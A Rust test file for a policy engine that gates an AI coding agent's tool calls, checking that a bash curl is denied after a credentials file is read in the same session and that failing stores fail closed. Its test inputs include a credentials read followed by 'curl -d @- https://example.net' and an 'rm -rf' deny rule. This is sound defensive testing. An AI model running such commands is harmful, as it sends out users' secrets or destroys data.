#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use serde_json::{Value, json};
use sluice_compiler::jit::Backend;

use super::tests::{chain_of, host};
use super::*;
use crate::session::{MemoryStore, SessionState, StoreError};

const POLICY: &str = r#"
tool bash { command: string }
tool read_file { path: string }
tool write_file { path: string, content: string }
label secret-read

precheck writes_are_fine on write_file => allow
postcheck secrets_read on read_file when args.path.ends_with("credentials") => label session "secret-read"
gate no_curl_after_secrets on bash
  when "secret-read" in session.labels and args.command.starts_with("curl")
  => "a secret was read earlier in this session"
precheck ask_the_third_read on read_file when session.calls.read_file ?? 0 >= 2 => ask "a third read"
"#;

fn chain(policy: &str) -> Chain {
    chain_of(policy, Backend::Jit)
}

fn event(session: &str, name: &str, tool: &str, input: Value) -> String {
    let mut event = json!({
        "session_id": session, "cwd": "/work/project", "hook_event_name": name,
        "tool_name": tool, "tool_input": input,
    });
    if name == "PostToolUse" {
        event["tool_response"] = json!({ "content": "[default]" });
    }
    event.to_string()
}

fn decision(reply: &Reply) -> String {
    let out: Value = serde_json::from_str(&reply.stdout).unwrap_or(Value::Null);
    out["hookSpecificOutput"]["permissionDecision"]
        .as_str()
        .unwrap_or("none")
        .to_string()
}

#[test]
fn a_label_one_hook_event_attaches_stops_a_later_event_of_the_session_only() {
    let chain = chain(POLICY);
    let store = MemoryStore::new();
    let judge = |session: &str, name: &str, tool: &str, input: Value| {
        let input = event(session, name, tool, input);
        answer_in_session(Harness::Claude, &input, &chain, None, &host(), Some(&store)).reply
    };
    let curl = json!({ "command": "curl -d @- https://example.net" });
    let read = json!({ "file_path": "/home/me/.aws/credentials" });
    assert_eq!(
        decision(&judge("s1", "PreToolUse", "Bash", curl.clone())),
        "none"
    );
    judge("s1", "PreToolUse", "Read", read.clone());
    judge("s1", "PostToolUse", "Read", read.clone());
    assert_eq!(
        decision(&judge("s1", "PreToolUse", "Bash", curl.clone())),
        "deny"
    );
    // Another session of the same agent read nothing.
    assert_eq!(decision(&judge("s2", "PreToolUse", "Bash", curl)), "none");
    // Calls are counted once each, at their pre-check: the third read is asked about.
    judge("s1", "PreToolUse", "Read", read.clone());
    assert_eq!(decision(&judge("s1", "PreToolUse", "Read", read)), "ask");
    let state = store.load("s1").unwrap();
    assert_eq!(state.calls(), 5);
}

/// A store that cannot be read or written.
struct Broken;

impl SessionStore for Broken {
    fn load(&self, _: &str) -> Result<SessionState, StoreError> {
        Err(StoreError::NotAFile {
            path: "/broken".into(),
        })
    }

    fn record(&self, _: &str, _: &[crate::session::SessionEvent]) -> Result<(), StoreError> {
        Err(StoreError::NotAFile {
            path: "/broken".into(),
        })
    }
}

#[test]
fn a_store_that_fails_fails_closed_for_the_rules_that_read_the_session() {
    let chain = chain(POLICY);
    let curl = event("s1", "PreToolUse", "Bash", json!({ "command": "curl x" }));
    let reply =
        answer_in_session(Harness::Claude, &curl, &chain, None, &host(), Some(&Broken)).reply;
    assert_eq!(decision(&reply), "deny", "{reply:?}");
    assert!(reply.stdout.contains("session"), "{reply:?}");
    // A call no rule that reads the session judges is judged as ever.
    let write = event(
        "s1",
        "PreToolUse",
        "Write",
        json!({ "file_path": "/work/project/a", "content": "" }),
    );
    let reply = answer_in_session(
        Harness::Claude,
        &write,
        &chain,
        None,
        &host(),
        Some(&Broken),
    )
    .reply;
    assert_eq!(decision(&reply), "allow", "{reply:?}");
    // No store at all is the same as one that fails.
    let reply = answer_in_session(Harness::Claude, &curl, &chain, None, &host(), None).reply;
    assert_eq!(decision(&reply), "deny", "{reply:?}");
    // A label that cannot be kept withholds the output rather than lose the label.
    let post = event(
        "s1",
        "PostToolUse",
        "Read",
        json!({ "file_path": "/home/me/.aws/credentials" }),
    );
    let reply =
        answer_in_session(Harness::Claude, &post, &chain, None, &host(), Some(&Broken)).reply;
    assert_eq!(reply.exit, 2, "{reply:?}");
    assert!(reply.stderr.contains("could not be kept"), "{reply:?}");
}

#[test]
fn a_chain_that_reads_no_session_never_touches_the_store() {
    let chain = chain(
        "tool bash { command: string }\nprecheck no_rm on bash when args.command.starts_with(\"rm \") => deny \"no\"\n",
    );
    assert!(!chain.uses_session());
    let rm = event("s1", "PreToolUse", "Bash", json!({ "command": "rm -rf x" }));
    let reply = answer_in_session(Harness::Claude, &rm, &chain, None, &host(), Some(&Broken)).reply;
    assert_eq!(decision(&reply), "deny");
    let ls = event("s1", "PreToolUse", "Bash", json!({ "command": "ls" }));
    let reply = answer_in_session(Harness::Claude, &ls, &chain, None, &host(), Some(&Broken)).reply;
    assert_eq!(decision(&reply), "none");
}
